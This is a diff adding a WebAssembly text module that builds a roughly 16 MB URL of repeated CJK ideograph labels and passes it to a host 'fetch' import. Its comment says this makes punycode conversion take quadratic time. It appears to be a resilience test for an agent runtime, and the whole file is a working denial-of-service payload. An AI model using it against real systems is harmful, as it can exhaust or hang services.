@@ -1,0 +1,22 @@
+;; Asks for a URL of 16 MB whose labels are of 990 different ideographs, which punycode takes quadratic time for.
+(import "pattoo:agent/http@0.1.0" "fetch" (func $fetch (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)))
+(memory (export "memory") 260)
+(data (i32.const 1024) "GEThttp://")
+(func $attack (local $p i32) (local $k i32) (local $c i32)
+  (memory.copy (i32.const 131072) (i32.const 1027) (i32.const 7))
+  (local.set $p (i32.const 131079))
+  (loop $next
+    (local.set $c (i32.add (i32.const 0x4e00) (i32.sub (i32.const 990) (local.get $k))))
+    (i32.store8 (local.get $p) (i32.or (i32.const 0xe0) (i32.shr_u (local.get $c) (i32.const 12))))
+    (i32.store8 offset=1 (local.get $p)
+      (i32.or (i32.const 0x80) (i32.and (i32.const 0x3f) (i32.shr_u (local.get $c) (i32.const 6)))))
+    (i32.store8 offset=2 (local.get $p) (i32.or (i32.const 0x80) (i32.and (i32.const 0x3f) (local.get $c))))
+    (local.set $p (i32.add (local.get $p) (i32.const 3)))
+    (local.set $k (i32.add (local.get $k) (i32.const 1)))
+    (if (i32.eq (local.get $k) (i32.const 990)) (then
+      (i32.store8 (local.get $p) (i32.const 46))
+      (local.set $p (i32.add (local.get $p) (i32.const 1)))
+      (local.set $k (i32.const 0))))
+    (br_if $next (i32.lt_u (local.get $p) (i32.const 16131072))))
+  (call $fetch (i32.const 1024) (i32.const 3) (i32.const 131072) (i32.sub (local.get $p) (i32.const 131072))
+    (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 512)))
